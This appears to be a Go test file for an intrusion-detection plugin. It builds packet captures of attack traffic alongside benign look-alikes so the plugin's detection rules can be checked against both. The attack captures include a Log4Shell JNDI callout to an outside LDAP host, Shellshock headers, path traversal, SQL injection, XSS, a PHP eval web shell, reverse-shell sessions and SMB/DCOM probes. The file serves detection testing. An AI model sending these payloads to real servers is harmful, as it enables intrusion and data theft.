package idsrules

import (
	"bytes"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/gopacket/gopacket"
	"github.com/gopacket/gopacket/layers"
	"github.com/gopacket/gopacket/pcapgo"
	"github.com/picketwatch/picket/sdk/sdktest"
)

// captures are the cases of the rules that come with the plugin.
var captures = map[string]func(w *wire){
	"attacks": func(w *wire) {
		request := func(port uint16, line, headers, body string) {
			c := w.dial(port, 80).up(line + " HTTP/1.1\r\nHost: shop.example\r\n" + headers + "\r\n" + body)
			c.down("HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok").close()
		}
		request(40001, "GET /", "X-Api-Version: ${jndi:ldap://198.51.100.9/a}\r\n", "")
		request(40002, "GET /cgi-bin/status", "User-Agent: () { :;}; /bin/id\r\n", "")
		request(40003, "GET /cgi-bin/status", "Referer: () { x;}; /bin/id\r\n", "")
		request(40004, "GET /show?file=../../../../etc/passwd", "", "")
		request(40005, "GET /item?id=1%20UNION%20ALL%20SELECT%20user,pass%20FROM%20users--", "", "")
		request(40006, "GET /search?q=%3Cscript%3Ealert(1)%3C/script%3E", "", "")
		shell := "<?php @eval($_POST['x']);?>"
		request(40007, "POST /upload", "Content-Type: multipart/form-data\r\nContent-Length: 27\r\n", shell)
		c := w.dial(40008, 80).up("GET /logo.gif HTTP/1.1\r\nHost: cdn.example\r\n\r\n")
		c.down("HTTP/1.1 200 OK\r\nContent-Type: image/gif\r\nContent-Length: 91\r\n\r\nMZ" + strings.Repeat("\x00", 76) + "This program ").close()
		w.dial(40009, 4444).up("id\n").down("uid=0(root) gid=0(root) groups=0(root)\n").close()
		w.dial(40010, 4445).down("Microsoft Windows [Version 10.0.19045.1]\r\n(c) Microsoft\r\n\r\nC:\\Users\\ada>").close()
		w.dial(40011, 445).up("\x00\x00\x00\x40\xfcSMB\x20\x00\x00\x00\x01\x00\x00\x00\xff\xff\xff\xff" + strings.Repeat("A", 48)).close()
		w.dial(40013, 445).up("\x00\x00\x00\x40\xfcSMB\xff\xff\xff\xff\x01\x00\x00\x00\x10\x00\x00\x00" + strings.Repeat("A", 48)).close()
		w.udp(client, server, 40012, 53, question("expyuzz4wqqyqhjn.onion"))
		w.dial(40014, 445).up(negotiate(strings.Repeat("\x00", 16))).close()
		w.dial(40015, 4444).down("\r\nC:\\WINNT\\system32>").up("start worm.exe\n").close()
		w.dial(40016, 135).up(activation(strings.Repeat("F\x00", 400) + "\\\x00C\x00$\x00")).close()
	},
	"ordinary": func(w *wire) {
		for i, line := range []string{"GET /", "GET /select?union=yes", "GET /docs/../index.html", "GET /script?text=%3Cb%3E", "GET /etc/passwd-policy"} {
			c := w.dial(uint16(41000+i), 80).up(line + " HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: Browser/5 (a; b)\r\n\r\n")
			c.down("HTTP/1.1 200 OK\r\nContent-Type: image/png\r\nContent-Length: 8\r\n\r\n\x89PNG\r\n\x1a\n").close()
		}
		w.dial(41010, 80).up("GET /setup.exe HTTP/1.1\r\nHost: a.example\r\n\r\n").
			down("HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\nContent-Length: 91\r\n\r\nMZ" + strings.Repeat("\x00", 76) + "This program ").close()
		w.dial(41011, 4444).down("uid=1000(ada) gid=1000(ada)\n").close()
		w.dial(41012, 445).up("\x00\x00\x00\x14\xfcSMB\x20\x00\x00\x00\x01\x00\x00\x00\x10\x00\x00\x00data").close()
		w.dial(41015, 445).up(negotiate("0123456789abcdef")).close()
		w.dial(41016, 4444).down("\r\nC:\\notes.txt is > 3 pages\r\n").close()
		w.dial(41017, 23).down("\r\nC:\\Users\\ada>").close()
		w.dial(41018, 135).up(activation("F\x00S\x00\\\x00C\x00$\x00" + strings.Repeat("a\x00", 400))).close()
		handshakeWithoutCertificate(w)
		w.udp(client, server, 41013, 53, question("onion.example.org"))
		w.udp(client, server, 41014, 123, strings.Repeat("\x1b", 48))
	},
}

// negotiate offers SMB 3.1.1 with compression.
func negotiate(id string) string {
	head := "\xfeSMB\x40\x00" + strings.Repeat("\x00", 8) + "\x1f\x00" + strings.Repeat("\x00", 48)
	head = head[:12] + "\x00\x00" + head[14:]
	body := "\x24\x00\x02\x00\x01\x00\x00\x00\x7f\x00\x00\x00" + id + "\x70\x00\x00\x00\x01\x00\x00\x00\x02\x03\x11\x03\x00\x00\x00\x00"
	compression := "\x03\x00\x0a\x00\x00\x00\x00\x00\x01\x00\x00\x00\x00\x00\x00\x00\x01\x00"
	text := head + body + compression
	return string([]byte{0, 0, 0, byte(len(text))}) + text
}

// activation asks DCOM for an object in a file on another server.
func activation(path string) string {
	return "\x05\x00\x00\x03\x10\x00\x00\x00" + strings.Repeat("\x00", 16) + "\x00\x00\x04\x00" + strings.Repeat("\x00", 60) + "\\\x00\\\x00" + path
}

func handshakeWithoutCertificate(w *wire) {
	w.dial(41020, 443).up(clientHello(0x303, "www.example.org")).down(serverHello(0x303)).up(record(23, 0x303, "secret")).close()
}

// The captures in testdata are those that this code makes. PICKET_UPDATE=1 writes them.
func TestCases(t *testing.T) {
	for name, make := range captures {
		w := &wire{}
		make(w)
		var b bytes.Buffer
		out := pcapgo.NewWriter(&b)
		if err := out.WriteFileHeader(65536, layers.LinkTypeEthernet); err != nil {
			t.Fatal(err)
		}
		for _, p := range w.packets {
			if err := out.WritePacket(gopacket.CaptureInfo{Timestamp: p.Time, CaptureLength: len(p.Data), Length: int(p.Length)}, p.Data); err != nil {
				t.Fatal(err)
			}
		}
		file := filepath.Join("testdata", name, "input.pcap")
		if os.Getenv("PICKET_UPDATE") != "" {
			if err := os.MkdirAll(filepath.Dir(file), 0o755); err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(file, b.Bytes(), 0o644); err != nil {
				t.Fatal(err)
			}
		}
		if have, err := os.ReadFile(file); err != nil || !bytes.Equal(have, b.Bytes()) {
			t.Errorf("%s is another capture: %v", file, err)
		}
	}
	sdktest.Cases(t, Plugin(), "testdata")
}
